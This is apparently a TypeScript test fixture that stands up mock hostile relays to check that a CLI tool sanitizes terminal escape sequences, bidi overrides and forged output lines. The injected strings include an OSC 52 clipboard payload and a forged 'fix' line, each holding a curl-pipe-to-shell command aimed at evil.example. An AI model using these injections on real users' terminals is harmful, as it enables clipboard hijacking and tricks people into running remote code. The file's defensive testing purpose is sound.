// Relays whose words are aimed at the user's terminal: escape sequences (OSC 52 clipboard, OSC
// window title, screen clear), carriage returns that overwrite a line, bidi overrides, C1 controls,
// and newlines that forge lines of relaycheck's own output ("result: works with Codex"). They put
// them wherever relaycheck quotes a relay: error bodies, HTML titles, the Server header, /models ids,
// response.failed messages. Whatever they send, no output may carry those characters raw.
import { CheckId } from '../../checks/ids.ts';
import type { HostileBehaviour } from './behaviour.ts';
import { startHttpRelay } from '../loopback-servers.ts';
import { SSE_HEAD, failedTurn, serializeSse } from './valid-stream.ts';

/** What the attacks would do, each one a separate threat to a terminal. */
export const TERMINAL_ATTACKS = {
  clipboard: '\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007', // OSC 52: sets the clipboard
  title: '\u001b]0;relaycheck: all good\u0007', // OSC 0: sets the window title
  clear: '\u001b[2J\u001b[H', // clears the screen
  overwrite: 'rejected\rresult: works with Codex', // CR: the rest overwrites the line
  bidi: 'key \u202eexe.gnp\u202c ok', // right-to-left override: shows text reversed
  c1: '\u009b2J\u0085\u009d0;t\u009c', // C1 CSI, NEL, OSC, ST: the 8-bit forms of the above
  forgedLines: 'denied\nresult: works with Codex\nfix: curl https://evil.example/x | sh', // new lines of "our" output
} as const;

/** Every attack in one text. */
export const TERMINAL_PAYLOAD = Object.values(TERMINAL_ATTACKS).join(' | ');

/** The Server header can carry only Latin-1: the C1 controls, and the forged line without its newline. */
const SERVER_HEADER = `nginx ${TERMINAL_ATTACKS.c1} result: works with Codex`;

/** A model list of 5,000 names, the first ones hostile. */
const MODEL_IDS = [TERMINAL_ATTACKS.forgedLines, TERMINAL_ATTACKS.clipboard, `${TERMINAL_ATTACKS.bidi}/gpt-5.5`, ...Array.from({ length: 5_000 }, (_, i) => `model-${i}`)];

export const terminalBehaviours: HostileBehaviour[] = [
  {
    name: 'terminal-attacks-in-error-message',
    description: 'Answers 401 with an OpenAI error envelope whose message carries every terminal attack.',
    start: () =>
      startHttpRelay((_req, res) => {
        res.writeHead(401, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ error: { message: TERMINAL_PAYLOAD, type: 'invalid_request_error', param: null, code: 'invalid_api_key' } }));
      }),
    expect: { status: 'fail', check: CheckId.statusOk },
  },
  {
    name: 'terminal-attacks-in-html-title-and-server',
    description: 'Answers 403 with an HTML page whose title carries every terminal attack, and C1 controls in the Server header.',
    start: () =>
      startHttpRelay((_req, res) => {
        res.writeHead(403, { 'content-type': 'text/html', server: SERVER_HEADER });
        res.end(`<!DOCTYPE html><html><head><title>${TERMINAL_PAYLOAD.replace(/</g, '')}</title></head><body>denied</body></html>`);
      }),
    expect: { status: 'fail', check: CheckId.statusOk },
  },
  {
    name: 'terminal-attacks-in-model-list',
    description: 'Refuses the model (404 model_not_found, attacks in the message) and lists 5,000 models at /models, the first named with terminal attacks.',
    start: () =>
      startHttpRelay((req, res) => {
        if (req.method === 'GET' && (req.url ?? '').endsWith('/models')) {
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end(JSON.stringify({ object: 'list', data: MODEL_IDS.map((id) => ({ id, object: 'model' })) }));
          return;
        }
        res.writeHead(404, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ error: { message: `The model does not exist ${TERMINAL_PAYLOAD}`, type: 'invalid_request_error', param: 'model', code: 'model_not_found' } }));
      }),
    expect: { status: 'fail', check: CheckId.modelServed },
  },
  {
    name: 'terminal-attacks-in-failed-stream',
    description: 'Streams a message and then response.failed whose error code and message carry every terminal attack.',
    start: () =>
      startHttpRelay((_req, res) => {
        res.writeHead(200, SSE_HEAD);
        res.end(serializeSse(failedTurn(TERMINAL_PAYLOAD, { code: TERMINAL_ATTACKS.title, message: TERMINAL_PAYLOAD })));
      }),
    expect: { status: 'fail', check: CheckId.notFailed },
  },
];
